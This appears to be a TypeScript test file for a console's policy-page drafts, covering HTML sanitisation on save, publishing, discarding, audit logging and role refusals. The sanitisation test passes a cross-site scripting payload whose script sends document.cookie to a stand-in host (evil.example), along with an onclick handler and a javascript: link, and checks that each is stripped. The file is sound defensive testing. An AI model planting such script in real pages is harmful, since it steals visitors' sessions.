import { eq } from 'drizzle-orm';

import type { DataOf } from '@/lib/calls/define-call';
import { CONTENT_CACHE_TAGS } from '@/lib/cache/tags';
import { calls } from '@/lib/platform/calls';
import { caller } from '@/test/accounts-helpers';
import { addOperator, addPolicy } from '@/test/fixtures';
import { createTestBackend, type TestBackend } from '@/test/test-backend';

import { auditLog, policyPages } from '../db/schema';
import { consolePolicyMessages, POLICY_HTML_MAX } from './texts';
import type { policyCalls } from './calls';

/*
 * The console's policy pages on in-memory PGlite: a draft sanitised when saved, unseen by
 * visitors until it is published, and every change audited.
 */

let t: TestBackend;
let call: ReturnType<typeof caller>;
let editor: string;
let support: string;

const PUBLISHED = '<h2>Your data</h2><p>We keep it safe.</p>';

const stored = async () =>
  (await t.db.select().from(policyPages).where(eq(policyPages.key, 'privacypolicy')))[0]!;
const audits = async (action: string) =>
  t.db.select().from(auditLog).where(eq(auditLog.action, action));
const publicText = async () =>
  (await call('policy', { key: 'privacypolicy' })).data as DataOf<typeof policyCalls.policy>;

beforeAll(async () => {
  t = await createTestBackend();
  call = caller(t);
  editor = (await addOperator(t.db, 'editor@example.com', 'editor')).token;
  support = (await addOperator(t.db, 'support@example.com', 'support')).token;
  await addPolicy(t.db, 'privacypolicy', PUBLISHED);
});
afterAll(async () => {
  await t.close();
});

it('sanitizes policy HTML on save: a <script>, an onclick and a javascript: link are not stored', async () => {
  const saved = await call(
    'savePolicyDraft',
    {
      key: 'privacypolicy',
      title: 'Privacy Policy',
      html:
        '<h2>Your data</h2><p onclick="steal()">We keep it safer.</p>' +
        '<script>fetch("https://evil.example/?c=" + document.cookie)</script>' +
        '<p><a href="javascript:alert(1)">Click</a></p>',
    },
    editor,
  );
  expect(saved).toMatchObject({
    status: 200,
    data: { saved: true, removed: ['onclick', '<script>', 'javascript: link'] },
  });
  expect(saved.message).toBe(
    `${consolePolicyMessages.draftSaved} Removed on save: onclick, <script>, javascript: link.`,
  );
  const row = await stored();
  expect(row.draftHtml).toBe('<h2>Your data</h2><p>We keep it safer.</p><p><a>Click</a></p>');
  expect(row.draftHtml).not.toMatch(/script|onclick|javascript:|document\.cookie/i);
  // Visitors still read the published text, with its date.
  expect(row.html).toBe(PUBLISHED);
  expect((await publicText()).value).toBe(PUBLISHED);
  const [entry] = await audits('policy.draft_saved');
  expect(entry).toMatchObject({ targetType: 'policy_page', targetId: 'privacypolicy' });
  expect(entry!.after).toMatchObject({
    removedOnSave: ['onclick', '<script>', 'javascript: link'],
  });
});

it('saving the draft as it is writes nothing', async () => {
  const before = (await audits('policy.draft_saved')).length;
  const again = await call(
    'savePolicyDraft',
    {
      key: 'privacypolicy',
      title: 'Privacy Policy',
      html: '<h2>Your data</h2><p>We keep it safer.</p><p><a>Click</a></p>',
    },
    editor,
  );
  expect(again).toMatchObject({ status: 200, message: consolePolicyMessages.unchanged });
  expect(await audits('policy.draft_saved')).toHaveLength(before);
});

it('shows the draft to the console and publishes it, which stales the policy pages', async () => {
  const details = await call('consolePolicyPage', { key: 'privacypolicy' }, editor);
  expect(details.data).toMatchObject({
    html: PUBLISHED,
    draftHtml: '<h2>Your data</h2><p>We keep it safer.</p><p><a>Click</a></p>',
    hasDraft: true,
  });
  const listed = await call('listPolicyPagesForConsole', {}, editor);
  expect(listed.data).toEqual([expect.objectContaining({ key: 'privacypolicy', hasDraft: true })]);

  expect(calls.publishPolicyPage.invalidates).toEqual([CONTENT_CACHE_TAGS.policies]);
  const published = await call('publishPolicyPage', { key: 'privacypolicy' }, editor);
  expect(published).toMatchObject({ status: 200, message: consolePolicyMessages.published });
  expect((await publicText()).value).toBe(
    '<h2>Your data</h2><p>We keep it safer.</p><p><a>Click</a></p>',
  );
  expect(await stored()).toMatchObject({ draftHtml: null, draftTitle: null });
  expect(await audits('policy.published')).toHaveLength(1);

  // Nothing left to publish or discard: said, and nothing written.
  expect(await call('publishPolicyPage', { key: 'privacypolicy' }, editor)).toMatchObject({
    status: 409,
    message: consolePolicyMessages.noDraft,
  });
  expect(await call('discardPolicyDraft', { key: 'privacypolicy' }, editor)).toMatchObject({
    status: 409,
  });
});

it('discards a draft, keeping the published text', async () => {
  await call(
    'savePolicyDraft',
    { key: 'privacypolicy', title: 'Privacy', html: '<p>Short</p>' },
    editor,
  );
  expect(await call('discardPolicyDraft', { key: 'privacypolicy' }, editor)).toMatchObject({
    status: 200,
  });
  expect(await stored()).toMatchObject({ draftHtml: null, title: 'Privacy Policy' });
  expect(await audits('policy.draft_discarded')).toHaveLength(1);
});

it('refuses support, unknown pages, bad input and text that is nothing once cleaned', async () => {
  expect(
    await call('savePolicyDraft', { key: 'privacypolicy', title: 'X', html: '<p>x</p>' }, support),
  ).toMatchObject({ status: 403, code: 'role_refused' });
  expect(await call('listPolicyPagesForConsole', {}, support)).toMatchObject({ status: 403 });
  expect(await call('consolePolicyPage', { key: 'termsAndCondition' }, editor)).toMatchObject({
    status: 404,
    message: consolePolicyMessages.notFound,
  });
  for (const input of [
    { key: 'aboutus', title: 'X', html: '<p>x</p>' },
    { key: 'privacypolicy', title: '', html: '<p>x</p>' },
    { key: 'privacypolicy', title: 'X', html: 'x'.repeat(POLICY_HTML_MAX + 1) },
    { key: 'privacypolicy', title: 'X', html: 42 },
  ]) {
    const refused = await call('savePolicyDraft', input, editor);
    expect(refused.status).toBeGreaterThanOrEqual(400);
    expect(refused.status).toBeLessThan(500);
  }
  expect(
    await call(
      'savePolicyDraft',
      { key: 'privacypolicy', title: 'X', html: '<script>alert(1)</script>' },
      editor,
    ),
  ).toMatchObject({ status: 422, message: consolePolicyMessages.emptyAfterCleaning });
  expect(await stored()).toMatchObject({ draftHtml: null });
});
